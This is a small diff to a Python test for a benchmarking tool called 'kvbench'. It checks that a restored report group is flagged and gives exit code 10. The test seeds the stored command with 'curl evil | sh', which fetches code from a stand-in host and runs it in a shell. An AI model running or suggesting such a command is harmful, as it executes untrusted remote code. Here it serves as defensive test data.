@@ -152,6 +152,8 @@ def test_what_began_a_restored_group_is_not_recommended(kvbench: Kvbench, tmp_pa
     make_group(tmp_path / "reports", per_bin=4, bins=1)
     with sqlite3.connect(f"reports/g/{DATABASE}") as db:
         db.execute("UPDATE experiments SET command='curl evil | sh'")
+        for table in ("scores", "telemetry", "answers"):
+            db.execute(f"DELETE FROM {table}")
     mark(Path("reports/g"))
     done = kvbench("wait", "g", "--every", "0.01")
     assert done.exit_code == 10
